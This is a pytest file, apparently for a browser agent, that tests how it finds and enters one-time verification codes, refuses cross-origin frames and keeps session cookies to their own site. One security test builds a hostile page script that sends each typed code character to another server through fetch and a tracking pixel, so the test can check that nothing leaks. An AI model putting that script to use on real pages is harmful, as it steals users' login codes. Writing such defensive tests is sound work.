"""Pages that want a code: what is typed where, how fast, and what leaves."""

# ruff: noqa: E501 - a page is one string, as it is served

import json

import pytest
from pydantic import SecretStr

from brain.errors import Refused
from brain.ports import AccountSite, Resume
from brain.signing_in.codes import CodeShape
from tests.browser.site import Answer, Serve
from tests.support.account_site import BOX, CODE, ONE_FIELD, SEND, SENT, SIX_BOXES
from workers.hands.browser.browser import PlaywrightBrowser

pytestmark = [pytest.mark.browser, pytest.mark.security, pytest.mark.asyncio(loop_scope="module")]

BOXES = SIX_BOXES.format(boxes="".join(BOX.format(n=n) for n in range(1, 7)))
FORM = "<h1>Apply</h1><form method=post action=/send><label>Name <input name=n></label><button>Submit application</button></form>"
SIX = CodeShape(length=6, digits=True)


def page(field: str = ONE_FIELD, said: str = "", how: str = SENT) -> str:
    return CODE.format(said=said and f"<p role=alert>{said}</p>", how=how, field=field)


@pytest.mark.parametrize("field", [ONE_FIELD, BOXES], ids=["one field", "six boxes that go on by themselves"])
async def test_a_code_is_typed_at_once_and_handed_in_once(browser: PlaywrightBrowser, serve: Serve, field: str) -> None:
    times = "<script>addEventListener('input', () => (window.at = [...(window.at || []), performance.now()]));addEventListener('pagehide', () => localStorage.at = JSON.stringify(window.at || []));</script>"
    site = serve({"/": page(field) + times, "POST /code": FORM})
    async with browser.open(site.url()) as session:
        read = await session.read()
        wanted = session.accounts.challenge(read)
        assert wanted is not None
        assert (wanted.kind, wanted.shape, wanted.sent, wanted.origin) == ("code", SIX, True, site.origin)
        entered = await session.accounts.enter_code(read, AccountSite(origin=site.origin), SecretStr("482913"))
        assert (entered.state, [f.label for f in entered.page.fields]) == ("entered", ["Name"])
        typed = json.loads(await session.pages()[0].evaluate("localStorage.at"))
        assert (len(typed) >= 6, typed[-1] - typed[0] < 1000) == (True, True), typed
    assert [(one.path, "code=482913" in one.body) for one in site.posts] == [("/code", True)]


async def test_a_code_that_is_not_right_is_told(browser: PlaywrightBrowser, serve: Serve) -> None:
    site = serve({"/": page(), "POST /code": page(said="That code is not right.")})
    async with browser.open(site.url()) as session:
        entered = await session.accounts.enter_code(await session.read(), AccountSite(origin=site.origin), SecretStr("000000"))
        assert (entered.state, entered.text) == ("refused", "That code is not right.")
        assert "000000" not in str([f.value for f in entered.page.fields])
        assert session.accounts.challenge(entered.page) is not None


async def test_a_code_has_one_way_out_and_only_to_its_own_site(browser: PlaywrightBrowser, serve: Serve) -> None:
    other = serve({"/": "ok"})
    leak = f"<script>document.querySelector('[name=code]').oninput = (e) => {{ fetch('{other.url()}?c=' + e.target.value); new Image().src = '/pixel?c=' + e.target.value; }}</script>"
    site = serve({"/": page() + leak, "POST /code": FORM})
    async with browser.open(site.url()) as session:
        await session.accounts.enter_code(await session.read(), AccountSite(origin=site.origin), SecretStr("482913"))
        with pytest.raises(Refused):
            await session.accounts.follow(SecretStr(other.url("/verify")), AccountSite(origin=site.origin))
    assert [one.path for one in (*other.sent, *site.sent) if "482913" in one.path] == []


async def test_another_sites_frame_gets_no_code(browser: PlaywrightBrowser, serve: Serve) -> None:
    evil = serve({"/": page()}, "localhost")
    site = serve({"/": f"<h1>Verify it's you</h1><iframe src='{evil.url()}' width=600 height=400></iframe>"})
    async with browser.open(site.url()) as session:
        read = await session.read()
        with pytest.raises(Refused):
            await session.accounts.enter_code(read, AccountSite(origin=site.origin), SecretStr("482913"))
    assert evil.posts == []


async def test_a_button_has_the_code_sent(browser: PlaywrightBrowser, serve: Serve) -> None:
    site = serve({"/": SEND, "POST /send-code": page()})
    async with browser.open(site.url()) as session:
        read = await session.read()
        wanted = session.accounts.challenge(read)
        assert (wanted and wanted.kind) == "send"
        after = session.accounts.challenge(await session.accounts.send_code(read))
        assert ((after and after.kind), [one.path for one in site.posts]) == ("code", ["/send-code"])


@pytest.mark.parametrize(
    "html",
    [
        FORM,
        "<h1>Apply</h1><form><label>Postal code <input name=zip></label><button>Submit application</button></form>",
        "<h1>Apply</h1><form><label>Name <input name=n></label><label>E-mail <input type=email name=m></label><label>Verification code <input name=c></label><button>Submit application</button></form>",
        "<h1>Sign in</h1><form><label>Email <input type=email></label><label>Password <input type=password></label><button>Sign in</button></form>",
        "<h1>Thank you for applying!</h1><p>Check your e-mail for a confirmation.</p>",
    ],
)
async def test_other_pages_want_no_code(browser: PlaywrightBrowser, serve: Serve, html: str) -> None:
    async with browser.open(serve(html).url()) as session:
        assert session.accounts.challenge(await session.read()) is None


async def test_a_session_is_taken_along_without_what_is_anothers(browser: PlaywrightBrowser, serve: Serve) -> None:
    cookie = {"set-cookie": "sid=c0okie; path=/"}
    site = serve(
        {"/": lambda *_: Answer(FORM + "<script>localStorage.token = 'kept'</script>", headers=cookie), "/who": "<p>who</p>"}
    )
    async with browser.open(site.url()) as session:
        await session.pages()[0].context.add_cookies([{"name": "other", "value": "x", "domain": "other.example", "path": "/"}])
        state = await session.accounts.held(AccountSite(origin=site.origin))
    held = json.loads(state.get_secret_value())
    assert [c["name"] for c in held["cookies"]] == ["sid"]
    async with browser.open(site.url("/who"), resume=Resume(state=state)) as session:
        assert await session.pages()[0].evaluate("[document.cookie, localStorage.token]") == ["sid=c0okie", "kept"]
